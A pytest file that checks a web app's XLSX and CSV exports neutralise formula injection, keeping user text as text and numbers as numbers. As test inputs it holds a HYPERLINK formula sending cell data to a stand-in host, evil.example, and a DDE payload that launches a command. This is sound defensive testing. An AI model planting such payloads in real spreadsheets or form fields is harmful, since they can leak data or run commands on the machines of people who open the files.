"""Finding 3: text a user typed never becomes a live formula in a download; numbers stay numbers."""
from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from tests.factories import login
from webapp.extensions import db
from webapp.models import Kpi, KpiValue

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B2,"click")'
RISKY = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)"]


@pytest.fixture
def hostile(factory):
    """Project 1's title, its KPIs' names and the last editor's display name are all formulas."""
    f = factory
    project = f.project(1, title="=1+2", lead=("福岡県",))
    cycle = f.cycle(2024)
    editor = f.coordinator("福岡県")
    editor.display_name = "=cmd|' /C calc'!A0"
    sheet = f.sheet(project, cycle)
    sheet.updated_by, sheet.version = editor, 2  # the editor has saved it
    for i, name in enumerate(RISKY):
        kpi = Kpi(position=i, name=name, unit="件", target_value=Decimal("-5"))
        kpi.values = [KpiValue(position=0, year=2024, target=Decimal("40"), actual=Decimal("-3"))]
        sheet.kpis.append(kpi)
    db.session.commit()
    return f


def _assert_text(cell, expected):
    assert cell.value == expected
    assert cell.data_type == "s"


def test_kpi_workbook_writes_formula_like_text_as_text(client, hostile):
    login(client, hostile.secretariat())
    response = client.get("/reports/2024/kpis.xlsx")
    assert response.status_code == 200
    wb = load_workbook(io.BytesIO(response.data))
    rows = list(wb["KPI"].iter_rows(min_row=2))
    assert [r[2].value for r in rows] == RISKY
    for row, name in zip(rows, RISKY):
        _assert_text(row[2], name)
        _assert_text(row[1], "=1+2")
        # Numbers, negative ones included, are still numbers.
        assert row[0].value == 1 and row[0].data_type == "n"
        assert row[5].value == 40 and row[5].data_type == "n"
        assert row[6].value == -3 and row[6].data_type == "n"
        assert row[8].value == -5 and row[8].data_type == "n"
    states = list(wb["個票の状態"].iter_rows(min_row=2))
    _assert_text(states[0][1], "=1+2")
    _assert_text(states[0][6], "=cmd|' /C calc'!A0")
    assert states[0][4].data_type == "n"


def test_status_workbook_writes_formula_like_text_as_text(client, hostile):
    login(client, hostile.secretariat())
    response = client.get("/dashboard/2024/status.xlsx")
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(response.data)).active
    row = list(ws.iter_rows(min_row=2))[0]
    _assert_text(row[1], "=1+2")
    _assert_text(row[6], "=cmd|' /C calc'!A0")
    assert row[0].value == 1 and row[0].data_type == "n"
    assert row[12].value == 0 and row[12].data_type == "n"


def test_status_csv_prefixes_formula_like_text_with_an_apostrophe(client, hostile):
    login(client, hostile.secretariat())
    response = client.get("/dashboard/2024/status.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    assert rows[1][0] == "1"
    assert rows[1][1] == "'=1+2"
    assert rows[1][6] == "'=cmd|' /C calc'!A0"
    assert rows[1][12] == "0"


@pytest.mark.parametrize("value", RISKY)
def test_every_risky_start_is_neutralised_in_csv(value):
    from webapp.safecells import csv_cell
    assert csv_cell(value) == "'" + value
    assert csv_cell(-3) == -3
    assert csv_cell("普通の文") == "普通の文"
